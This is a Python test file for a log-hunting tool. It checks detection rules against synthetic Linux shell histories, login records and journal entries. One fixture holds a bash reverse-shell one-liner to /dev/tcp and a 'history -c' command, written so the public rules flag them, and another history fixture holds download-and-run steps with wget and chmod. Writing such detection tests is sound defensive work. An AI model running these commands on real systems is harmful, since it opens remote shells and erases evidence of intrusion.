#!/usr/bin/env python3
"""test_linux: what rules and findings make of shell histories, login records and the journal, whatever the files are called."""

import json
import pathlib
import struct
import tempfile

from evidence import SHARED, hunt, run

RULE = """
title: {title}
id: 6d1c7c3e-5555-4a53-9d51-6d5f2d3b1a{number:02}
status: test
level: high
logsource: {{product: linux{source}}}
detection:
  selection: {selection}
  condition: selection
"""


def login(kind, user, host, seconds, line=b"pts/0"):
    """A record of x86-64."""
    return struct.pack("<hxxi32s4s32s256shhiII16s20x", kind, 9, line, b"", user, host, 0, 0, 0, seconds, 5, b"")


def binary(name, value):
    return name + b"\n" + struct.pack("<Q", len(value)) + value + b"\n"


TIMES = b"__REALTIME_TIMESTAMP=1700000000000001\n__MONOTONIC_TIMESTAMP=5\n_BOOT_ID=b\n_HOSTNAME=srv1\nSYSLOG_IDENTIFIER=acmed\nSYSLOG_FACILITY=10\n"
ENTRY = {
    "__CURSOR": "s=1", "__REALTIME_TIMESTAMP": "1700000000000001", "__MONOTONIC_TIMESTAMP": "5", "_BOOT_ID": "b", "_HOSTNAME": "srv1",
    "SYSLOG_IDENTIFIER": "acmed", "SYSLOG_FACILITY": "10",
}  # fmt: skip
EVIDENCE = {
    "bash": b"#1700000000\nls\n#1700000001\ncat /etc/marked\n",
    "zsh": b": 1700000001:0;cat \\\n/etc/marked\n: 1700000002:0;ls\n",
    "fish": b"- cmd: ls\n  when: 1700000000\n- cmd: cat /etc/marked\n  when: 1700000001\n",
    "plain": b"ls -l\ncd /tmp\nwget x\nchmod +x x\ncat /etc/marked\n",
    "wtmp": login(7, b"alice", b"198.51.100.7", 1700000000) + login(8, b"", b"", 1700000009),
    "btmp": login(6, b"mallory", b"203.0.113.9", 1700000001, b"ssh:notty") * 2,
    "export": b"__CURSOR=s=1\n" + TIMES + binary(b"MESSAGE", b"read /etc/marked\nby \xff") + b"\n__CURSOR=s=2\n" + TIMES + b"MESSAGE=nothing\n\n",
    "sshd": b"__CURSOR=s=1\n" + TIMES.replace(b"=acmed", b"=sshd") + b"MESSAGE=Failed password for mallory from 203.0.113.9 port 4711 ssh2\n",
    "json": "".join(json.dumps({**ENTRY, "MESSAGE": text}) + "\n" for text in ("nothing", list(b"read /etc/marked\nby \xff"))).encode(),
}
RULES = {
    "keyword": ("", "['/etc/marked']"),
    "failed": (", service: utmp", "{action: login failed, ut_user: mallory}"),
    "journal's names": ("", "{MESSAGE|contains: marked, _HOSTNAME: srv1, SYSLOG_IDENTIFIER: acmed}"),
    "syslog's names": (", service: auth", "{message|contains: marked, host: srv1, program: acmed}"),
    "what sshd says": (", service: sshd", "{user: mallory, src_ip: 203.0.113.9, _HOSTNAME: srv1}"),
}
# What a format makes of a message, whoever brought it, is what kinds of that format are of.
KIND = """
kind: test/sshd
when: {format: openssh}
time: timestamp
logsources:
  - {product: linux, service: sshd}
roles: {host: '{host}', account: '{user}'}
"""
# (rule, evidence, number of the record, time, host, account)
FOUND = {
    ("keyword", "bash", 2, "2023-11-14T22:13:21Z", "", ""),
    ("keyword", "zsh", 1, "2023-11-14T22:13:21Z", "", ""),
    ("keyword", "fish", 2, "2023-11-14T22:13:21Z", "", ""),
    ("keyword", "plain", 5, None, "", ""),
    ("what sshd says", "sshd", 1, "2023-11-14T22:13:20.000001Z", "srv1", "mallory"),
    ("failed", "btmp", 1, "2023-11-14T22:13:21.000005Z", "", "mallory"),
    ("failed", "btmp", 2, "2023-11-14T22:13:21.000005Z", "", "mallory"),
} | {
    (rule, name, number, "2023-11-14T22:13:20.000001Z", "srv1", "")
    for rule in ("keyword", "journal's names", "syslog's names")
    for name, number in (("export", 1), ("json", 2))
}


def each_is_known_by_its_content():
    with tempfile.TemporaryDirectory() as folder:
        root = pathlib.Path(folder)
        (root / "rules").mkdir()
        (root / "evidence").mkdir()
        for number, (title, (source, selection)) in enumerate(RULES.items()):
            rule = RULE.format(title=title, number=number, source=source, selection=selection)
            (root / "rules" / f"{number}.yml").write_text(rule, encoding="ascii")
        (root / "kinds").mkdir()
        (root / "kinds/sshd.yml").write_text(KIND, encoding="ascii")
        for name, data in EVIDENCE.items():
            (root / "evidence" / name).write_bytes(data)
        _, findings, errors = hunt(root / "evidence", "--rules", root / "rules", "--kinds", root / "kinds")
        found = {
            (f["rule_title"], pathlib.Path(f["evidence_path"]).name, f["record"], f.get("time") or None, f["host"], f["account"])
            for f in findings
        }
        assert found == FOUND, f"{sorted(found ^ FOUND, key=str)} {errors[-400:]}"


def public_rules_find_commands():
    """The public keyword rules for Linux look at what was typed."""
    rules = SHARED / "data/sigma/rules/linux/builtin"
    if not rules.is_dir():
        print("SKIP: public_rules_find_commands: no public rules (set LONGWATCH_SHARED)")
        return
    with tempfile.TemporaryDirectory() as folder:
        log = pathlib.Path(folder) / "x"
        log.write_bytes(b"#1700000000\nls\n#1700000001\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n#1700000002\nhistory -c\n")
        _, findings, errors = hunt(log, "--rules", rules)
        found = {(f["rule_title"], f["record"]) for f in findings}
        wanted = {("Suspicious Reverse Shell Command Line", 2), ("Suspicious Use of /dev/tcp", 2), ("Linux Command History Tampering", 3)}
        assert found == wanted, f"{found ^ wanted} {errors[-300:]}"


run([each_is_known_by_its_content, public_rules_find_commands])
